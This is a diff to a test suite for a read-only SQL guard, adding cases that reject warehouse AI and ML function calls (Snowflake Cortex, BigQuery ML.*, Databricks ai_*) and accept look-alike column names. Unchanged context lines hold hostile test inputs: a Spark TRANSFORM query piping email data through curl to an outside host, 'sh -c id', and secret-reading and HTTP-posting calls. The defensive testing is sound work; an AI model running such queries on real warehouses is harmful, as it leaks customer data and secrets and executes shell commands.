@@ -50,6 +50,9 @@ describe("read-only SQL guard", () => {
     // USING without a script: a join's columns, DuckDB's sample, an ordering operator; Spark's transform function of arrays.
     ["SELECT count(*) FROM orders JOIN lines USING (order_id) WHERE cardinality(transform(tags, t -> upper(t))) > 0"],
     ["SELECT count(*) FROM orders USING SAMPLE 10%"],
+    // Columns, tables and schemas named like the model functions and their schemas, where they are no call.
+    ["SELECT count(*) FROM ml.predictions p JOIN cortex c ON p.id = c.id WHERE p.ai_score > 0.5 AND c.ai_flag AND ai = 1"],
+    ["SELECT count(*) FROM orders o WHERE o.ml_label = 'x' AND upper(o.complete) = 'Y' AND main.generate_text_len(o.note) > 0"],
     ["SELECT count(*) FROM (SELECT amount FROM orders ORDER BY amount USING < LIMIT 3) t"],
   ])("accepts %j", (sql) => {
     expect(inspectReadOnlySql(sql)).toEqual({ readOnly: true });
@@ -274,6 +277,18 @@ describe("read-only SQL guard", () => {
     ["SELECT length(secret('prod', 'db-password'))", "calls `secret()`"],
     ["SELECT count(*) FROM orders WHERE http_request(conn => 'hook', method => 'POST', path => email) IS NOT NULL", "calls `http_request()`"],
     ["SELECT count(*) FROM orders WHERE ai_query('endpoint', email) = 'spam'", "calls `ai_query()`"],
+    // The warehouses' AI and ML functions, which send the values they are given to a model: Snowflake's Cortex and
+    // AI_* functions, BigQuery's ML.* and AI.* functions, Databricks' ai_* functions besides ai_query.
+    ["SELECT count(*) FROM orders WHERE SNOWFLAKE.CORTEX.COMPLETE('llama3-8b', email) ILIKE '%spam%'", "calls `CORTEX.COMPLETE()`"],
+    ['SELECT count(*) FROM orders WHERE "SNOWFLAKE"."CORTEX"."SENTIMENT"(note) < 0', "calls `CORTEX.SENTIMENT()`"],
+    ["SELECT count(*) FROM orders WHERE AI_COMPLETE('claude-3-5-sonnet', email) = 'x'", "calls `AI_COMPLETE()`"],
+    ["SELECT count(*) FROM orders WHERE AI_FILTER(PROMPT('Is {0} spam?', note))", "calls `AI_FILTER()`"],
+    ["SELECT count(*) FROM ML.GENERATE_TEXT(MODEL `proj.ds.gemini`, (SELECT email AS prompt FROM orders))", "calls `ML.GENERATE_TEXT()`"],
+    ["SELECT count(*) FROM `ML.GENERATE_EMBEDDING`(MODEL m, TABLE orders)", "calls `ML.GENERATE_EMBEDDING()`"],
+    ["SELECT countif(AI.GENERATE_BOOL(('Is this spam? ', note)).result) FROM orders", "calls `AI.GENERATE_BOOL()`"],
+    ["SELECT count(*) FROM orders WHERE ai.generate(note).result = 'x'", "calls `ai.generate()`"],
+    ["SELECT count(*) FROM orders WHERE ai_classify(note, array('spam', 'ham')) = 'spam'", "calls `ai_classify()`"],
+    ["SELECT count(*) FROM orders WHERE ai_gen(concat('Summarize: ', note)) IS NULL", "calls `ai_gen()`"],
     // Spark's script transform runs a shell command on every executor, in a query that only reads.
     ["SELECT count(*) FROM (SELECT TRANSFORM(email) USING 'curl -d @- https://example.com/x' AS (out) FROM orders) t", "runs a script"],
     ['SELECT count(*) FROM (SELECT TRANSFORM(*) ROW FORMAT DELIMITED USING "sh -c id" FROM orders) t', "runs a script"],
